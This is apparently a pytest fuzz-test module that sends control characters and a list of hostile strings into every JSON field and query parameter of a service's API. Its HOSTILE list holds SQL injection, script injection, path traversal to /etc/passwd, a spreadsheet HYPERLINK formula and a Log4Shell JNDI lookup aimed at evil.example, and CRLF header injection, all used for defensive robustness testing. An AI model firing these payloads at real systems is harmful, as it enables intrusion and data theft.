"""Control characters and hostile strings in every string of a real request, one place at a
time: each value and each key of the JSON body, however deeply nested, and each query
parameter, of every operation of every service.

A control character (NUL, ESC, DEL, C1, a lone surrogate) is refused wherever it is put: a
4xx in the shared error shape naming the field, or — for the batch routes, which answer row
by row — a 200 whose problems name it; never a 2xx that took it. Hostile strings (SQL, markup,
paths, formulas, bidi overrides, very long text) get any answer but a 5xx, in the shared
shape; whatever they manage to store is left for the consumers check at the end of the run
(tests/fuzz/test_downstream.py)."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.fuzz.checks import DROPPED_HEADERS, request_checked
from tests.fuzz.operations import OPERATIONS, Operation
from tests.fuzz.seed import Fuzzed
from tests.fuzz.strings import (
    CONTROL,
    carries,
    inserted,
    mentions,
    places,
    replaced,
    request_of,
    valid_case,
)
from tests.harness import ADMIN

HOSTILE = [
    "' OR '1'='1'; DROP TABLE stored_events; --",
    "<script>alert('评议')</script>",
    "../../../../etc/passwd",
    '=HYPERLINK("http://evil.example","点击")',
    "\u202e局安公县阳舞\u202d",  # right-to-left override
    "\u200b\ufeff\u200d",  # only invisible characters
    "𠀀𪚥" * 50,  # outside the Basic Multilingual Plane
    "${jndi:ldap://evil.example/a}",
    "%00%0d%0aSet-Cookie: x=1",
    "評議" * 20_000,  # far past any field's length
]


def _carries_strings(operation: Operation) -> bool:
    """A JSON body or a query parameter: where a request's strings can be (path parameters
    are fuzzed in test_openapi.py, headers cannot carry control characters at all)."""
    json_body = any(body.media_type == "application/json" for body in operation.body)
    query = any(param.location == "query" for param in operation.iter_parameters())
    return json_body or query


STRING_OPERATIONS = [(s, op) for s, op in OPERATIONS if _carries_strings(op)]
STRING_IDS = [f"{service} {operation.label}" for service, operation in STRING_OPERATIONS]


def _send(fuzzed: Fuzzed, service: str, kwargs: dict[str, Any], label: str) -> Any:
    """The request with its JSON written by `json.dumps` (ASCII escapes, so a lone surrogate
    travels as `\\ud800`, which a client may send and httpx would refuse to encode)."""
    headers = {
        name: value
        for name, value in kwargs.get("headers", {}).items()
        if name.lower() not in DROPPED_HEADERS
    } | ADMIN
    request: dict[str, Any] = {"headers": headers, "params": kwargs.get("params") or None}
    if "json" in kwargs:
        request["content"] = json.dumps(kwargs["json"]).encode("ascii")
        request["headers"] = headers | {"Content-Type": "application/json"}
    return request_checked(
        fuzzed.cluster[service], kwargs["method"], kwargs["url"], label=label, **request
    )


def _request(fuzzed: Fuzzed, operation: Operation) -> dict[str, Any]:
    case = valid_case(operation, fuzzed.seeded)
    if case is None:
        pytest.skip("the operation takes a file, not JSON (tests/fuzz/test_uploads.py)")
    return request_of(case)


@pytest.mark.parametrize(("service", "operation"), STRING_OPERATIONS, ids=STRING_IDS)
def test_control_characters_are_refused_where_they_are_put(
    fuzzed: Fuzzed, service: str, operation: Operation
) -> None:
    case = _request(fuzzed, operation)
    found = list(places(case))
    if not found:
        pytest.skip("the request carries no string")
    failures = []
    for number, place in enumerate(found):
        control = CONTROL[number % len(CONTROL)]
        if place.path[0] == "query" and control == "\ud800":
            control = "\x00"  # a URL cannot carry a lone surrogate at all
        edge: list[bool] = []

        def put(old: str, c: str = control, edge: list[bool] = edge) -> str:
            edge.append(len(old) < 2)
            return inserted(old, c)

        bad = replaced(case, place, put)
        label = f"{operation.label} with U+{ord(control):04X} at {place.label}"
        response = _send(fuzzed, service, bad, label)
        if response is None:
            continue  # a known defect (tests/fuzz/checks.py), pinned by its own xfail
        answer = response.json() if response.content else None
        if response.status_code >= 400:
            if response.status_code == 422 and not mentions(answer, place.named):
                failures.append(f"{label}: 422 without naming {place.named}: {answer}")
        elif carries(answer, control) or not (
            mentions(answer, place.named) or (control.isspace() and all(edge))
        ):
            # Whitespace at the edge of a value (a number, a trimmed name) is taken off
            # before validation; anything else taken is a defect.
            failures.append(f"{label}: {response.status_code}, taken: {str(answer)[:300]}")
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize(("service", "operation"), STRING_OPERATIONS, ids=STRING_IDS)
def test_hostile_strings_get_an_answer(fuzzed: Fuzzed, service: str, operation: Operation) -> None:
    case = _request(fuzzed, operation)
    found = list(places(case))
    if not found:
        pytest.skip("the request carries no string")
    for number, place in enumerate(found):
        hostile = HOSTILE[number % len(HOSTILE)]
        bad = replaced(case, place, lambda _old, h=hostile: h)
        _send(fuzzed, service, bad, f"{operation.label} with {hostile[:30]!r} at {place.label}")
